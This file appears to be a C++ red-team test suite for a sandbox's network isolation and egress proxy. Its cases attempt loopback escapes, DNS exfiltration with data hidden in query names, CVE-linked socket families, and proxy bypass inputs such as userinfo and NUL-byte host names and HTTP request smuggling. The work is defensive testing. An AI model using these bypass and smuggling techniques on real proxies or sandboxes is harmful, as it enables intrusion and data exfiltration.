// Direct network and proxy parsing. The sandbox reaches only the proxy on
// 127.0.0.1:3128 of its own network namespace; the policy allows
// allowed.test and denies denied.test (both pointed at the host's origin on
// 127.0.0.1 with --resolve). The runner fails a case whose traffic reached a
// host sentinel, or whose request for denied.test reached the origin.
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include "tests/security/redteam/redteam.h"

namespace stockade::redteam {
namespace {

std::string port(int p) { return std::to_string(p); }

// The allowed neighbour of the proxy cases: an allowed name through the proxy.
std::optional<Verdict> allowedThroughProxy(const Context& c) {
  std::string reply = proxyExchange("GET http://allowed.test:" + port(c.origin) +
                                    "/ HTTP/1.1\r\nHost: allowed.test:" + port(c.origin) + "\r\nConnection: close\r\n\r\n");
  return neighbour(reply.starts_with("HTTP/1.1 200") && reply.find("hello") != std::string::npos,
                   "GET http://allowed.test through the proxy");
}

// A proxy reply that refuses: a 4xx status (403 with X-Proxy-Error for a
// policy decision, 400 for a malformed request), or the connection closed
// without any reply.
Verdict proxyRefuses(const std::string& reply, std::string_view what) {
  if (reply.empty()) return held(std::string(what) + ": closed without a reply");
  if (reply.starts_with("HTTP/1.1 403") || reply.starts_with("HTTP/1.0 403"))
    return held(std::string(what) + ": 403" + (reply.find("blocked-by-policy") != std::string::npos ? " blocked-by-policy" : ""));
  if (reply.starts_with("HTTP/1.1 400") || reply.starts_with("HTTP/1.1 405") || reply.starts_with("HTTP/1.1 501"))
    return held(std::string(what) + ": " + reply.substr(9, 3));
  if (reply.starts_with("HTTP/1.1 200")) return escaped(std::string(what) + ": 200");
  return unproven(std::string(what) + ": unexpected reply " + reply.substr(0, reply.find('\r')));
}

#define PROXY_CASE(fn, request)                                   \
  Verdict fn(const Context& c) {                                  \
    if (auto n = allowedThroughProxy(c)) return *n;               \
    return proxyRefuses(proxyExchange(request), #fn);             \
  }

std::string connectTo(const std::string& authority) {
  return "CONNECT " + authority + " HTTP/1.1\r\nHost: " + authority + "\r\n\r\n";
}

// --- direct network ---

Verdict tcpHost4(const Context& c) {
  if (auto n = allowedThroughProxy(c)) return *n;
  return refused(connectTcp("127.0.0.1", c.tcp4), {EACCES, ECONNREFUSED}, "connect(127.0.0.1:<host sentinel>)");
}
Verdict tcpHost6(const Context& c) {
  if (auto n = allowedThroughProxy(c)) return *n;
  return refused(connectTcp("::1", c.tcp6), {EACCES, ECONNREFUSED}, "connect([::1]:<host sentinel>)");
}
Verdict tcpMapped(const Context& c) {
  if (auto n = allowedThroughProxy(c)) return *n;
  return refused(connectTcp("::ffff:127.0.0.1", c.tcp4, AF_INET6), {EACCES, ECONNREFUSED},
                 "connect([::ffff:127.0.0.1]:<host sentinel>)");
}

Verdict udpSend(const Context& c, std::string_view payload, std::string_view what) {
  if (auto n = allowedThroughProxy(c)) return *n;
  int fd = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  sockaddr_in sa{};
  sa.sin_family = AF_INET;
  sa.sin_port = htons(static_cast<std::uint16_t>(c.udp));
  sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  for (int i = 0; i < 3; ++i) ::sendto(fd, payload.data(), payload.size(), 0, reinterpret_cast<sockaddr*>(&sa), sizeof sa);
  ::close(fd);
  return held(std::string(what) + " sent into the sandbox's own loopback (the runner checks the host's sentinel)");
}
Verdict udpHost(const Context& c) { return udpSend(c, "datagram", "3 datagrams to 127.0.0.1:<host sentinel>"); }
Verdict dnsExfiltration(const Context& c) {
  // A DNS query whose name carries the data, to a resolver on the host's loopback.
  std::string q("\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00", 12);
  for (std::string label : {"c2VjcmV0", "exfil", "test"}) q += static_cast<char>(label.size()) + label;
  q += std::string("\x00\x00\x01\x00\x01", 5);
  return udpSend(c, q, "a DNS query with data in its name");
}

Verdict rawSocket(const Context&) {
  if (auto n = neighbour(::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0) >= 0, "a UDP socket")) return *n;
  return refused(::socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP), {EPERM}, "socket(SOCK_RAW, ICMP)");
}
Verdict packetSocket(const Context&) {
  if (auto n = neighbour(::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0) >= 0, "a UDP socket")) return *n;
  return refused(::socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0), {EPERM}, "socket(AF_PACKET)");
}
Verdict vsockSocket(const Context&) {
  if (auto n = neighbour(::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0) >= 0, "a UDP socket")) return *n;
  return refused(::socket(40 /* AF_VSOCK */, SOCK_STREAM | SOCK_CLOEXEC, 0), {EPERM}, "socket(AF_VSOCK)");
}
Verdict netlinkXfrm(const Context&) {
  if (auto n = neighbour(::socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE) >= 0, "a NETLINK_ROUTE socket")) return *n;
  return refused(::socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_XFRM), {EPERM}, "socket(AF_NETLINK, NETLINK_XFRM)");
}
// Families the kernel rarely exercises and that have carried exploitable
// bugs (AF_ALG, AF_RDS, AF_TIPC, AF_KEY, AF_CAN, AF_XDP ...): anything but
// the families a sandboxed program needs should be refused.
Verdict rareFamilies(const Context&) {
  if (auto n = neighbour(::socket(AF_INET6, SOCK_STREAM | SOCK_CLOEXEC, 0) >= 0, "an IPv6 TCP socket")) return *n;
  std::string opened, refusals;
  const std::pair<int, const char*> families[] = {{38, "AF_ALG"},  {21, "AF_RDS"}, {30, "AF_TIPC"}, {15, "AF_KEY"},
                                                  {29, "AF_CAN"},  {44, "AF_XDP"}, {31, "AF_BLUETOOTH"},
                                                  {9, "AF_X25"},   {3, "AF_AX25"}, {42, "AF_QIPCRTR"}};
  for (auto [family, name] : families)
    for (int type : {SOCK_STREAM, SOCK_DGRAM, SOCK_SEQPACKET, SOCK_RAW}) {
      int fd = ::socket(family, type | SOCK_CLOEXEC, 0);
      if (fd >= 0) {
        opened += std::string(opened.empty() ? "" : ", ") + name;
        ::close(fd);
        break;
      }
      if (type == SOCK_RAW) refusals += std::string(refusals.empty() ? "" : ", ") + name + " " + errnoName(errno);
    }
  if (!opened.empty()) return escaped("opened: " + opened);
  return held("none opened (" + refusals + ")");
}
Verdict routeChange(const Context&) {
  int fd = ::socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
  if (auto n = neighbour(fd >= 0, "a NETLINK_ROUTE socket")) return *n;
  struct {
    nlmsghdr h;
    ifaddrmsg a;
    rtattr r;
    in_addr addr;
  } req{};
  req.h.nlmsg_len = sizeof req;
  req.h.nlmsg_type = RTM_NEWADDR;
  req.h.nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE;
  req.a.ifa_family = AF_INET;
  req.a.ifa_prefixlen = 8;
  req.a.ifa_index = 1;
  req.r.rta_type = IFA_LOCAL;
  req.r.rta_len = RTA_LENGTH(sizeof(in_addr));
  ::inet_pton(AF_INET, "127.9.9.9", &req.addr);
  if (::send(fd, &req, sizeof req, 0) < 0) return refused(-1, {EPERM}, "send(RTM_NEWADDR)");
  struct {
    nlmsghdr h;
    nlmsgerr e;
  } ack{};
  if (::recv(fd, &ack, sizeof ack, 0) < static_cast<ssize_t>(sizeof ack.h)) return unproven("no netlink ack");
  errno = -ack.e.error;
  return refused(ack.e.error == 0 ? 0 : -1, {EPERM}, "RTM_NEWADDR on lo");
}
Verdict bindListen(const Context&) {
  if (auto n = neighbour(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0) >= 0, "a TCP socket")) return *n;
  int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  sockaddr_in sa{};
  sa.sin_family = AF_INET;
  sa.sin_port = htons(8080);
  sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  return refused(::bind(fd, reinterpret_cast<sockaddr*>(&sa), sizeof sa), {EACCES}, "bind(127.0.0.1:8080) (allowLocalBinding: false)");
}

// --- proxy parsing ---

PROXY_CASE(connectDenied, connectTo("denied.test:" + port(c.origin)))
PROXY_CASE(connectUnlisted, connectTo("other.test:" + port(c.origin)))
PROXY_CASE(connectIpLiteral, connectTo("127.0.0.1:" + port(c.tcp4)))
PROXY_CASE(connectIpv6Literal, connectTo("[::1]:" + port(c.tcp6)))
PROXY_CASE(connectDecimalIp, connectTo("2130706433:" + port(c.tcp4)))
PROXY_CASE(connectShortIp, connectTo("127.1:" + port(c.tcp4)))
PROXY_CASE(connectHexIp, connectTo("0x7f.0.0.1:" + port(c.tcp4)))
PROXY_CASE(connectTrailingDot, connectTo("denied.test.:" + port(c.origin)))
PROXY_CASE(connectUppercase, connectTo("DENIED.TEST:" + port(c.origin)))
PROXY_CASE(connectUserinfo, connectTo("allowed.test@denied.test:" + port(c.origin)))
PROXY_CASE(connectNulByte, connectTo(std::string("denied.test\0.allowed.test:", 26) + port(c.origin)))
PROXY_CASE(connectProxyItself, connectTo("127.0.0.1:3128"))
PROXY_CASE(absoluteDenied, "GET http://denied.test:" + port(c.origin) + "/ HTTP/1.1\r\nHost: allowed.test:" + port(c.origin) +
                               "\r\nConnection: close\r\n\r\n")
PROXY_CASE(absoluteUserinfo, "GET http://allowed.test@denied.test:" + port(c.origin) + "/ HTTP/1.1\r\nHost: denied.test\r\n"
                             "Connection: close\r\n\r\n")

// One kept-alive connection: an allowed request, then one for denied.test;
// each request is decided on its own.
Verdict keepAliveSwitch(const Context& c) {
  if (auto n = allowedThroughProxy(c)) return *n;
  std::string a = "GET http://allowed.test:" + port(c.origin) + "/ HTTP/1.1\r\nHost: allowed.test:" + port(c.origin) + "\r\n\r\n";
  std::string b = "GET http://denied.test:" + port(c.origin) + "/ HTTP/1.1\r\nHost: denied.test:" + port(c.origin) +
                  "\r\nConnection: close\r\n\r\n";
  std::string reply = proxyExchange(a + b);
  auto second = reply.find("HTTP/1.1", 1);
  if (!reply.starts_with("HTTP/1.1 200")) return unproven("the first, allowed request got " + reply.substr(0, 12));
  if (second == std::string::npos) return held("the connection closed after the allowed request");
  return proxyRefuses(reply.substr(second), "the second request, for denied.test");
}

// Request smuggling: a body whose length the proxy and the origin could
// read differently hides a second request (CL.TE and TE.CL, RFC 9112 §6.3).
Verdict smuggle(const Context& c, const std::string& headers, const std::string& body) {
  if (auto n = allowedThroughProxy(c)) return *n;
  std::string hidden = "GET http://denied.test:" + port(c.origin) + "/ HTTP/1.1\r\nHost: denied.test\r\n\r\n";
  std::string reply = proxyExchange("POST http://allowed.test:" + port(c.origin) + "/sha HTTP/1.1\r\nHost: allowed.test:" +
                                    port(c.origin) + "\r\n" + headers + "\r\n" + body + hidden);
  // Held unless the origin saw a request for denied.test (the runner checks
  // its log) or the proxy answered a second 200 for the hidden request.
  auto first = reply.find("HTTP/1.1");
  auto second = first == std::string::npos ? std::string::npos : reply.find("HTTP/1.1", first + 1);
  if (second != std::string::npos && reply.compare(second, 12, "HTTP/1.1 200") == 0)
    return escaped("the hidden request got a 200");
  return held("reply: " + (reply.empty() ? std::string("closed") : reply.substr(0, reply.find('\r'))));
}
Verdict smuggleClTe(const Context& c) {
  return smuggle(c, "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n");
}
Verdict smuggleTeObfuscated(const Context& c) {
  return smuggle(c, "Transfer-Encoding: xchunked\r\nTransfer-Encoding : chunked\r\nContent-Length: 5\r\n", "0\r\n\r\n");
}
Verdict smuggleDuplicateLength(const Context& c) {
  return smuggle(c, "Content-Length: 0\r\nContent-Length: 80\r\n", "");
}

// TCP urgent data inside a tunnel: splice() never reads past the urgent
// mark, so a relay that only splices forwarded nothing after it while its io
// thread spun (found in review; the proxy now relays the byte inline).
Verdict tunnelUrgentData(const Context& c) {
  if (auto n = allowedThroughProxy(c)) return *n;
  int fd = connectTcp("127.0.0.1", 3128);
  if (fd < 0) return unproven("connect to the proxy: " + errnoName(errno));
  auto sendText = [fd](std::string_view text) { return ::send(fd, text.data(), text.size(), MSG_NOSIGNAL) == static_cast<ssize_t>(text.size()); };
  auto receive = [fd](std::string_view until) {
    std::string out;
    char buf[4096];
    pollfd p = {fd, POLLIN, 0};
    while (out.find(until) == std::string::npos && ::poll(&p, 1, 5000) == 1) {
      ssize_t n = ::recv(fd, buf, sizeof buf, 0);
      if (n <= 0) break;
      out.append(buf, static_cast<std::size_t>(n));
    }
    return out;
  };
  sendText(connectTo("allowed.test:" + port(c.origin)));
  std::string established = receive("\r\n\r\n");
  if (!established.starts_with("HTTP/1.1 200")) {
    ::close(fd);
    return unproven("CONNECT allowed.test: " + established.substr(0, established.find('\r')));
  }
  sendText("GET / HTTP/1.1\r\nHost: allowed.test\r\nX-Urgent: ");
  const bool urgent = ::send(fd, "u", 1, MSG_OOB) == 1;
  sendText("rgent\r\nConnection: close\r\n\r\n");
  std::string reply = receive("hello");
  ::close(fd);
  if (!urgent) return unproven("send(MSG_OOB): " + errnoName(errno));
  if (reply.starts_with("HTTP/1.1 200")) return held("the request after the urgent byte reached the origin and was answered");
  return escaped("nothing after the urgent mark was forwarded: the tunnel wedged");
}

// SOCKS: version 4 is refused outright; version 5 decides like HTTP.
Verdict socks4(const Context& c) {
  if (auto n = allowedThroughProxy(c)) return *n;
  std::string req("\x04\x01", 2);
  req += static_cast<char>(c.tcp4 >> 8);
  req += static_cast<char>(c.tcp4 & 0xff);
  req += std::string("\x7f\x00\x00\x01", 4) + "redteam" + std::string(1, '\0');
  std::string reply = proxyExchange(req, 64);
  if (reply.size() >= 2 && reply[1] == 0x5a) return escaped("SOCKS4 request granted (0x5a)");
  return held("SOCKS4: " + (reply.empty() ? std::string("closed") : "reply byte " + std::to_string(reply.size() > 1 ? reply[1] : reply[0])));
}
Verdict socks4a(const Context& c) {
  if (auto n = allowedThroughProxy(c)) return *n;
  std::string req("\x04\x01", 2);
  req += static_cast<char>(c.origin >> 8);
  req += static_cast<char>(c.origin & 0xff);
  req += std::string("\x00\x00\x00\x01", 4) + "redteam" + std::string(1, '\0') + "denied.test" + std::string(1, '\0');
  std::string reply = proxyExchange(req, 64);
  if (reply.size() >= 2 && reply[1] == 0x5a) return escaped("SOCKS4a request granted (0x5a)");
  return held("SOCKS4a refused");
}
Verdict socks5Request(const Context& c, const std::string& address, int p) {
  if (auto n = allowedThroughProxy(c)) return *n;
  std::string req("\x05\x01\x00\x05\x01\x00", 6);
  req += address;
  req += static_cast<char>(p >> 8);
  req += static_cast<char>(p & 0xff);
  std::string reply = proxyExchange(req, 64);
  if (reply.size() >= 4 && reply[0] == 5 && reply[2] == 5 && reply[3] == 0) return escaped("SOCKS5 CONNECT succeeded");
  if (reply.size() >= 4 && reply[2] == 5) return held("SOCKS5 reply code " + std::to_string(reply[3]));
  return held("SOCKS5: closed");
}
Verdict socks5Ip(const Context& c) { return socks5Request(c, std::string("\x01\x7f\x00\x00\x01", 5), c.tcp4); }
Verdict socks5Denied(const Context& c) { return socks5Request(c, std::string("\x03\x0b", 2) + "denied.test", c.origin); }
Verdict socks5Ipv6(const Context& c) {
  return socks5Request(c, std::string("\x04", 1) + std::string(15, '\0') + std::string("\x01", 1), c.tcp6);
}

const bool registered = registerCases({
    {"direct-network", "tcp-host-loopback", "connect to the host's 127.0.0.1", "network namespace + Landlock TCP", tcpHost4},
    {"direct-network", "tcp6-host-loopback", "connect to the host's ::1", "IPv6 left open", tcpHost6},
    {"direct-network", "tcp-v4-mapped", "connect to ::ffff:127.0.0.1", "IPv4-mapped IPv6 bypasses", tcpMapped},
    {"direct-network", "udp-host-loopback", "datagrams to the host's 127.0.0.1", "UDP left open", udpHost},
    {"direct-network", "dns-exfiltration", "data in DNS query names to a resolver on loopback", "DNS exfiltration (sandbox-runtime's documented limit)", dnsExfiltration},
    {"direct-network", "raw-socket", "an ICMP raw socket", "raw IP", rawSocket},
    {"direct-network", "af-packet", "an AF_PACKET socket", "CVE-2017-7308, CVE-2020-14386", packetSocket, "socket"},
    {"direct-network", "af-vsock", "an AF_VSOCK socket to the hypervisor", "CVE-2021-26708", vsockSocket, "socket"},
    {"direct-network", "netlink-xfrm", "a NETLINK_XFRM socket", "CVE-2022-1015 class (netlink families)", netlinkXfrm, "socket"},
    {"direct-network", "rare-families", "sockets of rarely used families (AF_ALG, AF_RDS, AF_TIPC, AF_KEY, ...)",
     "CVE-2010-3904 (RDS), CVE-2021-43267 (TIPC), AF_ALG bugs", rareFamilies},
    {"direct-network", "route-change", "add an address to lo over netlink", "CAP_NET_ADMIN in the sandbox", routeChange},
    {"direct-network", "bind-listen", "listen on a port (allowLocalBinding false)", "Landlock TCP bind", bindListen},
    {"proxy-parsing", "connect-denied", "CONNECT to a denied name", "deniedDomains", connectDenied},
    {"proxy-parsing", "connect-unlisted", "CONNECT to a name not allowed", "deny by default", connectUnlisted},
    {"proxy-parsing", "connect-ip-literal", "CONNECT to 127.0.0.1", "direct IPs through the proxy", connectIpLiteral},
    {"proxy-parsing", "connect-ipv6-literal", "CONNECT to [::1]", "IPv6 literals", connectIpv6Literal},
    {"proxy-parsing", "connect-decimal-ip", "CONNECT to 2130706433 (127.0.0.1 as one number)", "inet_aton forms", connectDecimalIp},
    {"proxy-parsing", "connect-short-ip", "CONNECT to 127.1", "inet_aton forms", connectShortIp},
    {"proxy-parsing", "connect-hex-ip", "CONNECT to 0x7f.0.0.1", "inet_aton forms", connectHexIp},
    {"proxy-parsing", "connect-trailing-dot", "CONNECT to denied.test. (trailing dot)", "name canonicalisation", connectTrailingDot},
    {"proxy-parsing", "connect-uppercase", "CONNECT to DENIED.TEST", "name canonicalisation", connectUppercase},
    {"proxy-parsing", "connect-userinfo", "CONNECT allowed.test@denied.test", "URL parser confusion (Orange Tsai, 2017)", connectUserinfo},
    {"proxy-parsing", "connect-nul-byte", "a NUL byte inside the host name", "NUL truncation", connectNulByte},
    {"proxy-parsing", "connect-proxy-itself", "CONNECT back to the proxy's own port", "proxy loops", connectProxyItself},
    {"proxy-parsing", "absolute-host-mismatch", "absolute-form to denied.test with Host: allowed.test", "Host vs request-target confusion", absoluteDenied},
    {"proxy-parsing", "absolute-userinfo", "http://allowed.test@denied.test/", "URL parser confusion", absoluteUserinfo},
    {"proxy-parsing", "keepalive-switch-host", "a second request on a kept-alive connection to denied.test", "per-connection decisions", keepAliveSwitch},
    {"proxy-parsing", "smuggle-cl-te", "Content-Length with Transfer-Encoding: chunked, hiding a request", "HTTP request smuggling (CL.TE)", smuggleClTe},
    {"proxy-parsing", "smuggle-te-obfuscated", "obfuscated Transfer-Encoding headers", "HTTP request smuggling (TE.TE)", smuggleTeObfuscated},
    {"proxy-parsing", "smuggle-duplicate-length", "two different Content-Length headers", "HTTP request smuggling (CL.CL)", smuggleDuplicateLength},
    {"proxy-parsing", "tunnel-urgent-data", "TCP urgent data (MSG_OOB) inside a CONNECT tunnel",
     "splice(2) stops at the urgent mark (review of issue 15's proxy)", tunnelUrgentData},
    {"proxy-parsing", "socks4", "a SOCKS4 CONNECT to 127.0.0.1", "SOCKS4 has no names to decide on", socks4},
    {"proxy-parsing", "socks4a", "a SOCKS4a CONNECT to denied.test", "SOCKS4a", socks4a},
    {"proxy-parsing", "socks5-ip", "a SOCKS5 CONNECT to 127.0.0.1", "direct IPs through SOCKS5", socks5Ip},
    {"proxy-parsing", "socks5-denied", "a SOCKS5 CONNECT to denied.test", "deniedDomains over SOCKS5", socks5Denied},
    {"proxy-parsing", "socks5-ipv6", "a SOCKS5 CONNECT to ::1", "IPv6 through SOCKS5", socks5Ipv6},
});

}  // namespace
}  // namespace stockade::redteam
